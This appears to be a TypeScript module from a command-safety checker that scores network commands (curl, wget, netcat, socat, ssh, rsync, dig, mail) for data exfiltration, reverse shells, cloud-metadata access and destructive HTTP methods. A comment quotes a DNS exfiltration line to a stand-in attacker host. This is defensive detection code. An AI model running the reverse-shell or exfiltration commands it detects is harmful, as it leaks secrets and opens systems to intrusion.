import { judgeFileRead } from '../file-read-judge.js';
import { isLoopbackHost } from '../loopback-host.js';
import { RISK } from '../risk-scale.js';
import {
  isCloudMetadataHost,
  isCredentialPath,
  isLocalControlPlanePort,
  secretLiteralKind,
  urlCarriesSecret,
} from '../secret-source.js';
import type { CommandRule, CommandScope } from '../shell-command.js';
import { options } from '../vocabulary/option-vocabulary.js';
import { OPTION_SPECS } from '../vocabulary/program-options.js';
import { classifyVerb } from './cli-verb.js';
import { deletionSeverity } from './file-system-rules.js';
import { parseArguments, specOf } from './option-parse.js';

/**
 * Network clients. Each registers what it sends (a sink) and what it reads (a source) for the
 * flow analysis, and judges its own arguments: secrets in URLs, raw IP addresses and cloud
 * metadata endpoints, HTTP methods that delete, reverse and bind shells.
 */

function hostOf(url: string): string | undefined {
  const match = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(\[[^\]]+\]|[^:/?#\s]+)/i.exec(url);
  return match?.[1]?.toLowerCase();
}

function isRawPublicIp(host: string): boolean {
  if (!/^\d{1,3}(\.\d{1,3}){3}$/.test(host)) return false;
  return !/^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|0\.)/.test(host);
}

function judgeUrl(scope: CommandScope, url: string, sending: boolean): void {
  // A file URL is no request: the program reads that local file (principle 1).
  const file = /^file:\/\/(?:localhost)?(\/[^?#]*)/i.exec(url)?.[1];
  if (file !== undefined) {
    judgeFileRead(scope, decodeURIComponentSafely(file));
    return;
  }
  const host = hostOf(url);
  // A URL built from command output carries that output to the server, like a request body.
  if (/\$\(|`/.test(url)) scope.networkSink(`url-from-data:${host ?? ''}`);
  if (urlCarriesSecret(url)) {
    scope.networkSink(`url:${host ?? url}`);
    scope.add({ code: `net.secret-in-url:${host ?? ''}`, exfil: RISK.denyHigh, onTask: 0.2 });
  }
  if (host === undefined) return;
  const port = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(?:\[[^\]]+\]|[^:/?#\s]+):(\d+)/i.exec(url)?.[1];
  if (isCloudMetadataHost(host)) {
    scope.secretSource(`cloud-metadata:${host}`);
    scope.add({ code: `net.cloud-metadata:${host}`, exfil: RISK.deny, onTask: 0.05 });
  } else if (isLoopbackHost(host) && port !== undefined && isLocalControlPlanePort(port)) {
    scope.secretSource(`control-plane:${port}`);
    scope.add({ code: `net.local-control-plane:${port}`, exfil: RISK.ask, onTask: 0.2 });
  } else if (isRawPublicIp(host)) {
    scope.add({ code: `net.raw-ip:${host}`, exfil: sending ? RISK.askHigh : RISK.askLow, onTask: 0.4 });
  }
}

function decodeURIComponentSafely(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

/** curl's options that take a value (`vocabulary/program-options.ts`). */
const CURL_OPTIONS = specOf(OPTION_SPECS.curl);
const CURL_SENDS = /^(-d|--data.*|--json|-F|--form.*|-T|--upload-file)$/;

const curl: CommandRule = (scope) => {
  const parsed = parseArguments(scope.command.args, CURL_OPTIONS, { negativeNumbers: 'option' });
  let method: string | undefined;
  let sends = false;
  const urls: string[] = [];
  for (const token of parsed.tokens) {
    if (token.kind === 'positional') {
      if (token.value !== '-') urls.push(token.value);
      continue;
    }
    const { name } = token;
    if (CURL_OPTIONS(name)?.takesValue !== true) continue;
    const value = token.value ?? '';
    if (name === '-X' || name === '--request') method = value.toUpperCase();
    else if (CURL_SENDS.test(name)) {
      sends = true;
      judgeSentData(scope, value, name);
    } else if (name === '--url') urls.push(value);
    else if (name === '-o' || name === '--output') judgeDownloadTarget(scope, value);
    else if (name === '-u' || name === '--user' || name === '-H' || name === '--header') {
      if (secretLiteralKind(value) !== undefined)
        scope.add({ code: 'net.literal-credential-in-arguments', exfil: RISK.askLow });
    }
  }
  // `-O` / `--remote-name` saves each URL under its last path segment.
  if (parsed.options.some((option) => /^(-O|--remote-name|--remote-name-all)$/.test(option.name)))
    for (const url of urls) judgeDownloadTarget(scope, remoteName(url));
  if (sends) scope.networkSink(`curl:${hostOf(urls[0] ?? '') ?? 'unknown'}`);
  for (const url of urls) judgeUrl(scope, url, sends);
  judgeHttpMethod(scope, method ?? (sends ? 'POST' : 'GET'), urls);
};

function judgeSentData(scope: CommandScope, value: string, flag: string): void {
  const file =
    flag === '-T' || flag === '--upload-file'
      ? value
      : value.startsWith('@')
        ? value.slice(1)
        : (/^[^=]+=@(.+)$/.exec(value)?.[1] ?? /^[^=]+=<(.+)$/.exec(value)?.[1]);
  if (file !== undefined && file !== '-' && file !== '') {
    const path = scope.path(file);
    if (isCredentialPath(path.normalised) || isCredentialPath(file)) {
      scope.secretSource(path.normalised);
      scope.add({ code: `secret.read:${path.normalised}`, exfil: RISK.ask, onTask: 0.1 });
    } else {
      scope.add({
        code: `net.upload-file:${path.normalised}`,
        exfil: path.scope === 'workspace' ? RISK.askLow : RISK.ask,
        onTask: 0.4,
      });
    }
    return;
  }
  const kind = secretLiteralKind(value);
  if (kind !== undefined) {
    scope.secretSource(`literal:${kind}`);
    scope.add({ code: `net.sends-secret-literal:${kind}`, exfil: RISK.denyHigh, onTask: 0.05 });
  }
}

function judgeDownloadTarget(scope: CommandScope, target: string): void {
  if (target === '-' || target === '/dev/null') return;
  const path = scope.path(target);
  // A downloaded file is written by this call: running it later in the call is running code
  // nobody has read (principle 2).
  scope.wrote(path.normalised);
  if (path.scope === 'system' || path.scope === 'home' || path.scope === 'unknown')
    scope.add({
      code: `net.download-outside-workspace:${path.normalised}`,
      destructive: path.scope === 'system' ? RISK.deny : RISK.ask,
      onTask: 0.4,
    });
}

function judgeHttpMethod(scope: CommandScope, method: string, urls: string[]): void {
  const pathVerb = urls.flatMap((url) =>
    url
      .replace(/^[a-z]+:\/\/[^/]*/i, '')
      .split(/[/?#]/)
      .map(classifyVerb),
  );
  if (method === 'DELETE') {
    scope.add({
      code: `net.http-delete:${hostOf(urls[0] ?? '') ?? ''}`,
      destructive: RISK.deny,
      onTask: 0.2,
    });
  } else if (method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS') {
    if (pathVerb.includes('destructive'))
      scope.add({
        code: `net.http-${method.toLowerCase()}-delete-endpoint`,
        destructive: RISK.deny,
        onTask: 0.2,
      });
    else {
      // A write to the developer's own service on this machine is how its API is tried out.
      const local = urls.length > 0 && urls.every((url) => isLoopbackHost(hostOf(url) ?? ''));
      scope.add({
        code: `net.http-${method.toLowerCase()}`,
        destructive: RISK.low,
        onTask: local ? 0.85 : 0.6,
      });
    }
  } else scope.add({ code: `net.http-get`, onTask: 0.85 });
}

/** wget's options that take a value: its short ones, and the long ones the rule reads. */
const WGET_OPTIONS = specOf(
  OPTION_SPECS.wget,
  options(
    '--post-data= --body-data= --post-file= --body-file= --method= --output-document= --directory-prefix=',
  ),
);

const wget: CommandRule = (scope) => {
  const parsed = parseArguments(scope.command.args, WGET_OPTIONS, { negativeNumbers: 'option' });
  let method = 'GET';
  const urls: string[] = [];
  for (const token of parsed.tokens) {
    if (token.kind === 'positional') {
      if (token.value !== '-') urls.push(token.value);
      continue;
    }
    const { name } = token;
    const value = token.value ?? '';
    if (name === '--post-data' || name === '--body-data') {
      method = method === 'GET' ? 'POST' : method;
      scope.networkSink('wget');
      judgeSentData(scope, value, '--data');
    } else if (name === '--post-file' || name === '--body-file') {
      method = method === 'GET' ? 'POST' : method;
      scope.networkSink('wget');
      judgeSentData(scope, value, '-T');
    } else if (name === '--method') method = value.toUpperCase();
    else if (name === '-O' || name === '--output-document') judgeDownloadTarget(scope, value);
    else if (name === '-P' || name === '--directory-prefix') judgeDownloadTarget(scope, `${value}/x`);
    // The value of a short option the rule does not read (`-i list`, `-e cmd`, `-U agent`) is judged
    // as an address, as it always was: `-i` reads addresses from it and `-e` runs a wgetrc command.
    else if (!name.startsWith('--') && token.value !== undefined && !value.startsWith('-')) urls.push(value);
  }
  // Without -O, wget saves each URL under its last path segment.
  if (!parsed.options.some((option) => option.name === '-O' || option.name === '--output-document'))
    for (const url of urls) judgeDownloadTarget(scope, remoteName(url));
  for (const url of urls) judgeUrl(scope, url, method !== 'GET');
  judgeHttpMethod(scope, method, urls);
};

/** The file name curl -O and wget give a download: the URL's last path segment. */
function remoteName(url: string): string {
  const path = url.replace(/^[a-z]+:\/\/[^/]*/i, '').replace(/[?#].*$/, '');
  return path.slice(path.lastIndexOf('/') + 1) || 'index.html';
}

const netcat: CommandRule = (scope) => {
  const args = scope.command.args;
  const program = scope.command.program;
  if (
    args.some(
      (arg) =>
        /^-[a-zA-Z]*[ec]$/.test(arg) || arg === '--exec' || arg === '--sh-exec' || arg === '--lua-exec',
    )
  ) {
    scope.networkSink(program);
    scope.add({
      code: `net.reverse-shell:${program}-exec`,
      exfil: RISK.certain,
      destructive: RISK.ask,
      onTask: 0.02,
    });
    return;
  }
  if (args.some((arg) => /^-[a-zA-Z]*z/.test(arg))) {
    scope.add({ code: `net.port-scan:${program}`, onTask: 0.5 });
    return;
  }
  const listens = args.some((arg) => /^-[a-zA-Z]*l/.test(arg) || arg === '--listen');
  scope.networkSink(program);
  scope.add({ code: `net.raw-socket:${program}${listens ? '-listen' : ''}`, exfil: RISK.ask, onTask: 0.2 });
};

const socat: CommandRule = (scope) => {
  const args = scope.command.args;
  scope.networkSink('socat');
  if (args.some((arg) => /^(exec|system):/i.test(arg) || (/,(pty|stderr)/i.test(arg) && /exec:/i.test(arg))))
    scope.add({
      code: 'net.reverse-shell:socat-exec',
      exfil: RISK.certain,
      destructive: RISK.ask,
      onTask: 0.02,
    });
  else scope.add({ code: 'net.raw-socket:socat', exfil: RISK.ask, onTask: 0.2 });
};

/** `scp`, `sftp`, `rsync`: an upload when a local path goes to `host:path`. */
function isRemote(operand: string): boolean {
  return (
    (/^[^/\s:]+:/.test(operand) && !/^[a-zA-Z]:\\/.test(operand)) || /^(rsync|sftp|scp):\/\//.test(operand)
  );
}

function judgeTransfer(scope: CommandScope, program: string, operands: string[]): void {
  if (operands.length < 2) return;
  const destination = operands[operands.length - 1]!;
  const sources = operands.slice(0, -1);
  if (!isRemote(destination)) {
    if (sources.some(isRemote)) scope.add({ code: `net.${program}.download`, onTask: 0.7 });
    return;
  }
  scope.networkSink(`${program}:${destination.split(':')[0]}`);
  let secret = false;
  for (const source of sources) {
    const path = scope.path(source);
    if (isCredentialPath(path.normalised) || isCredentialPath(source)) {
      secret = true;
      scope.secretSource(path.normalised);
    }
  }
  if (!secret)
    scope.add({ code: `net.${program}.upload:${destination.split(':')[0]}`, exfil: RISK.ask, onTask: 0.4 });
}

const RSYNC_DELETES =
  /^--(delete(-before|-during|-after|-delay|-excluded|-missing-args)?|del|remove-source-files|prune-empty-dirs)$/;

const rsync: CommandRule = (scope) => {
  // rsync's options and operands mix (`rsync -a src/ dst/ --delete`); a value-taking option's value
  // (`--exclude tmp/`, `-e ssh`) is not an operand.
  const parsed = parseArguments(scope.command.args, OPTION_SPECS.rsync, { negativeNumbers: 'option' });
  const operands = [...parsed.positionals];
  const named = (pattern: RegExp) => parsed.options.find((option) => pattern.test(option.name))?.name;
  const dryRun = named(/^(-n|--dry-run|--list-only)$/) !== undefined;
  const deleting = named(RSYNC_DELETES);
  if (deleting !== undefined && !dryRun) {
    // What the source lacks is deleted beneath the destination: a recursive deletion of it, judged
    // as `rm -r` of that place would be; on another host nothing tells what it holds.
    const destination = operands[operands.length - 1] ?? '';
    const deletion = isRemote(destination)
      ? { severity: RISK.deny, label: destination }
      : deletionSeverity(scope, destination, true);
    scope.add({ code: `shell.rsync${deleting}:${deletion.label}`, destructive: deletion.severity });
  }
  if (!dryRun) judgeTransfer(scope, 'rsync', operands);
};

const scp: CommandRule = (scope) => {
  const parsed = parseArguments(scope.command.args, OPTION_SPECS.scp, { negativeNumbers: 'option' });
  judgeTransfer(scope, 'scp', [...parsed.positionals]);
};

const ssh: CommandRule = (scope) => {
  // ssh's options come before the destination; the words after it are the remote command, whose
  // options are its own. A cluster (`-NL 5432:db:5432`) is read letter by letter.
  const args = scope.command.args;
  const parsed = parseArguments(args, OPTION_SPECS.ssh, {
    negativeNumbers: 'option',
    firstPositionalEndsOptions: true,
  });
  const tunnel = parsed.options.some((option) => /^-[RLDW]$/.test(option.name));
  const [host, ...remote] = parsed.positionals;
  if (tunnel) scope.add({ code: 'net.ssh-tunnel', exfil: RISK.ask, onTask: 0.3 });
  if (host === undefined) return;
  // What is piped into ssh goes to the other machine (`tar c . | ssh host 'cat > x'`), as scp would
  // send it: asked, and denied by the flow analysis when it carries a secret.
  if (scope.command.input.kind !== 'none') {
    scope.networkSink(`ssh:${host}`);
    scope.add({ code: `net.ssh-receives-input:${host}`, exfil: RISK.ask, onTask: 0.3 });
  }
  if (remote.length > 0) scope.runShell(remote.join(' '), 'ssh-remote');
  else scope.add({ code: `net.ssh-session:${host}`, uncertain: true, onTask: 0.4 });
};

const dnsLookup: CommandRule = (scope) => {
  const { args, dynamicArgs, program } = scope.command;
  // `dig $(whoami).attacker.example`: the query name carries data out.
  if (dynamicArgs.some((dynamic, index) => dynamic && !args[index]!.startsWith('-'))) {
    scope.networkSink(`dns:${program}`);
    scope.add({ code: `net.dns-from-data:${program}`, exfil: RISK.denyHigh, onTask: 0.05 });
  }
};

const mail: CommandRule = (scope) => {
  scope.networkSink(scope.command.program);
  scope.add({ code: `net.mail:${scope.command.program}`, exfil: RISK.ask, onTask: 0.2 });
};

const fileTransfer: CommandRule = (scope) => {
  scope.networkSink(scope.command.program);
  scope.add({ code: `net.transfer:${scope.command.program}`, exfil: RISK.ask, onTask: 0.3 });
};

/**
 * `openssl s_client` (and `s_time`) open a TLS connection to the host they are given and send their
 * input: a network sink like telnet, so a secret redirected into one is a leak. Only its
 * destination is judged by itself (a raw address is asked); checking a certificate with no input
 * is ordinary. Every other subcommand (`rand`, `x509`, `req`, `enc`, `dgst`) works locally.
 */
const openssl: CommandRule = (scope) => {
  const [subcommand, ...args] = scope.command.args;
  if (subcommand !== 's_client' && subcommand !== 's_time') return;
  const at = args.indexOf('-connect');
  const target = at === -1 ? undefined : args[at + 1];
  const host = target?.replace(/:\d+$/, '').replace(/^\[|\]$/g, '');
  scope.networkSink(`openssl:${host ?? ''}`);
  if (host !== undefined) judgeUrl(scope, `https://${target}`, false);
};

export const NETWORK_RULES: ReadonlyMap<string, CommandRule> = new Map<string, CommandRule>([
  ['curl', curl],
  ['openssl', openssl],
  ['wget', wget],
  [
    'http',
    (scope) =>
      judgeHttpMethod(
        scope,
        scope.command.args.find((arg) => /^[A-Z]+$/.test(arg)) ?? 'GET',
        scope.command.args.filter((arg) => /^https?:|^:/.test(arg)),
      ),
  ],
  ['nc', netcat],
  ['ncat', netcat],
  ['netcat', netcat],
  ['socat', socat],
  ['telnet', fileTransfer],
  ['ftp', fileTransfer],
  ['tftp', fileTransfer],
  ['lftp', fileTransfer],
  ['sftp', fileTransfer],
  ['scp', scp],
  ['rsync', rsync],
  ['ssh', ssh],
  ['dig', dnsLookup],
  ['nslookup', dnsLookup],
  ['host', dnsLookup],
  ['drill', dnsLookup],
  ['ping', dnsLookup],
  ['mail', mail],
  ['mailx', mail],
  ['sendmail', mail],
  ['mutt', mail],
]);
